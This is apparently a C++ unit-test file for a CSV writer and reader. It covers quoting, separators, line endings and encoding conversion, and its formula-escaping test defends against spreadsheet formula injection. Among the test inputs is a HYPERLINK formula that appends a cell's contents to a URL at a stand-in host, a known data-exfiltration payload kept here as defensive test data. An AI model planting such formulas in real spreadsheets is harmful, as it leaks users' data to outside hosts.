// Spreadsheet files: quoting out, reading back, separators and the two encodings.
#include "console/planning/csv.h"
#include "console/table/latin1_text.h"

#include <gtest/gtest.h>

namespace tarnwick {
namespace {

using Cells = std::vector<std::string>;

TEST(Csv, CellsAreQuotedOnlyWhenTheyMustBeAndReadBackAsWritten) {
    for (const auto& [cells, separator, record] :
         {std::tuple<Cells, char, std::string>{{"a", "b c", ""}, ',', "a,b c,\r\n"},
          {{"x,y", "say \"hi\"", "two\nlines"},
           ',',
           "\"x,y\",\"say \"\"hi\"\"\",\"two\nlines\"\r\n"},
          {{"x,y", "p;q", "r"}, ';', "x,y;\"p;q\";r\r\n"},
          {{"cr\r"}, ',', "\"cr\r\"\r\n"}}) {
        EXPECT_EQ(CsvRecord(cells, separator), record);
        // The reader takes its separator from this, the first line.
        const auto read = ReadCsv(record);
        ASSERT_TRUE(std::holds_alternative<std::vector<CsvRow>>(read)) << record;
        const auto& rows = std::get<std::vector<CsvRow>>(read);
        ASSERT_EQ(rows.size(), 1u) << record;
        EXPECT_EQ(rows[0].cells, cells) << record;
    }
}

TEST(Csv, ReadsLineEndingsAByteOrderMarkAndSemicolonFilesAndSaysWhereAQuoteIsOpen) {
    const std::string file = "\xEF\xBB\xBFMAC;Name, or Note;Kind\n"
                             "m1;\"first\r\nsecond\";\r\n"
                             "\r\n"
                             "m2;\"a;b\"\"c\"";
    const auto rows = std::get<std::vector<CsvRow>>(ReadCsv(file));
    ASSERT_EQ(rows.size(), 4u);
    EXPECT_EQ(rows[0].cells, (Cells{"MAC", "Name, or Note", "Kind"}));
    EXPECT_EQ(rows[1].cells, (Cells{"m1", "first\r\nsecond", ""}));
    EXPECT_EQ(rows[2].cells, (Cells{""}));
    EXPECT_EQ(rows[3].cells, (Cells{"m2", "a;b\"c"}));
    EXPECT_EQ(rows[3].line, 5) << "the quoted line break counts";
    EXPECT_EQ(std::get<std::string>(ReadCsv("a,b\nc,\"d\ne\n")),
              "Line 2: a quoted cell is not closed.");
}

// A spreadsheet runs a cell that starts like a formula; the apostrophe makes it text, and only
// an apostrophe this side added is taken off again.
TEST(Csv, FormulaLikeCellsAreWrittenAsTextAndReadBackAsTheyWere) {
    for (const auto& [cell, written] : std::initializer_list<std::pair<const char*, const char*>>{
             {"=1+1", "'=1+1"},
             {"+31 20", "'+31 20"},
             {"-5", "'-5"},
             {"@SUM(A1)", "'@SUM(A1)"},
             {"\tx", "'\tx"},
             {"\rx", "\"'\rx\""},
             {"=HYPERLINK(\"http://x/?\"&A2,\"cam\")",
              "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"cam\"\")\""},
             {"'=x", "''=x"},
             {"''-", "'''-"},
             {"'abc", "'abc"},
             {"'", "'"},
             {"a=b", "a=b"},
             {"", ""}}) {
        const std::string record = CsvRecord({cell, "m"});
        EXPECT_EQ(record, std::string(written) + ",m\r\n") << cell;
        const auto read = ReadCsv(record);
        ASSERT_TRUE(std::holds_alternative<std::vector<CsvRow>>(read)) << record;
        EXPECT_EQ(std::get<std::vector<CsvRow>>(read).at(0).cells, (Cells{cell, "m"})) << record;
    }
    // As a spreadsheet saves it: every text quoted.
    const auto saved = std::get<std::vector<CsvRow>>(ReadCsv("\"'=1+1\";\"''@\";\"'x\"\n"));
    EXPECT_EQ(saved.at(0).cells, (Cells{"=1+1", "'@", "'x"}));
}

// CR (old Macintosh), LF and CRLF each end a line, in a quoted cell too, where the cell keeps
// its line break as written.
TEST(Csv, EveryLineEndCountsOnceAndLinesAreNumberedAsAnEditorShowsThem) {
    const std::string file = "MAC,Host\r"
                             "m1;x;y;z;w,h1\r"
                             "m2,\"a\rb\"\r\n"
                             "m3,\"c\r\nd\n\re\"\n"
                             "\r"
                             "m4,last";
    const auto read = ReadCsv(file);
    ASSERT_TRUE(std::holds_alternative<std::vector<CsvRow>>(read));
    std::vector<std::pair<int, Cells>> lines;
    for (const CsvRow& row : std::get<std::vector<CsvRow>>(read))
        lines.emplace_back(row.line, row.cells);
    EXPECT_EQ(lines, (std::vector<std::pair<int, Cells>>{{1, {"MAC", "Host"}},
                                                         {2, {"m1;x;y;z;w", "h1"}},
                                                         {3, {"m2", "a\rb"}},
                                                         {5, {"m3", "c\r\nd\n\re"}},
                                                         {9, {""}},
                                                         {10, {"m4", "last"}}}));
    EXPECT_EQ(std::get<std::string>(ReadCsv("a,b\r\"x\r\ny\rz\"\r\"open\r")),
              "Line 5: a quoted cell is not closed.");
}

TEST(Latin1Text, CellsBecomeUtf8AndOnlyLatin1ComesBack) {
    EXPECT_EQ(Latin1ToUtf8("caf\xE9 \xFF\x7F"), "caf\xC3\xA9 \xC3\xBF\x7F");
    EXPECT_EQ(Utf8ToLatin1("caf\xC3\xA9 \xC3\xBF\xC2\x80"), "caf\xE9 \xFF\x80");
    for (const char* refused : {"\xE2\x82\xAC", "\xC4\x80", "\xC3", "\xC3\x41", "\xC1\xBF", "\xA9"})
        EXPECT_FALSE(Utf8ToLatin1(refused)) << refused;
}

} // namespace
} // namespace tarnwick
